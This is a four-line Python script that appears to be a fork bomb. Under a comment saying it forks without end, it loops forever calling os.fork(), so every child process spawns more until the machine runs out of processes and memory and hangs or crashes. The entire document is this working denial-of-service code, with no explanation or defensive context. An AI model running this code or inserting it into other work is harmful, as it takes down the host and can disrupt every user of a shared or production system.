# Forks without end; every child does the same.
import os
while True:
    os.fork()
